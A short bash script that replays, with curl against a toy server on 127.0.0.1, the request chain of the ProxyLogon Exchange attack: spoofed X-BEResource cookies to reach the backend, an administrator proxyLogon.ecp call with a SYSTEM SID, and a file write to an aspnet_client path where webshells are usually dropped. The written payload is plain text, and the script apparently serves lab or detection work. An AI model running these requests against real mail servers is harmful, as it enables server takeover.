#!/usr/bin/env bash
# curl version of the lab chain, every value a variable (toy server on 127.0.0.1 only)
set -euo pipefail
PORT="${1:-8080}"
BASE="http://127.0.0.1:${PORT}"
CHROME="88.0.4324.190"
UA="Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${CHROME} Safari/537.36"
DOMAIN=lab.invalid
MAILBOX_Q="administrator%40${DOMAIN}%2Fmapi%2Fnspi"
TICKET=1843073522
NOTE_ID=91453
NOTE="/aspnet_client/system_web/readme_${NOTE_ID}.txt"
REQ_ID="20200302-7720"
PAD=$(printf 'A%.0s' $(seq 1 37))
COOKIE="X-AnonResource=true; X-AnonResource-Backend=${DOMAIN}; X-BEResource=localhost@${DOMAIN}/ews/exchange.asmx?a%3D~${TICKET}"

browser=(-H "User-Agent: $UA" -H 'x-requested-with: XMLHttpRequest' -H 'Accept: */*' -H 'accept-language: en-US,en;q=0.9' -H 'connection: close')

code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 "${browser[@]}" -H "cookie: ${COOKIE}" \
  "${BASE}/autodiscover/autodiscover.json?Pad=${PAD}&Protocol=Autodiscoverv1&Email=${MAILBOX_Q}&RequestId=${REQ_ID}")
if [ "$code" -ge 500 ]; then exit 1; fi

who=$(curl -s --max-time 10 -X POST \
  -H "user-agent: $UA" -H 'msexchlogonmailbox: S-1-5-20' -H 'content-type: application/json' \
  -H "X-BEResource: localhost@${DOMAIN}/ecp/proxyLogon.ecp" \
  --data-raw "{\"mailbox\": \"administrator@${DOMAIN}\", \"requestKind\": \"identity\", \"seq\": 1}" \
  "${BASE}/ecp/proxyLogon.ecp" || true)
who=${who:-anonymous}

text=$(printf 'note %s of 3 for %s\n' 1 "$who" 2 "$who" 3 "$who")
curl -s -o /dev/null --max-time 10 -X POST -H "user-agent: $UA" -H "X-Note-Path: ${NOTE}" \
  -H 'Content-Type: text/plain' --data-binary "$text" "${BASE}${NOTE}"
curl -s --max-time 10 "${browser[@]}" "${BASE}${NOTE}" | wc -c
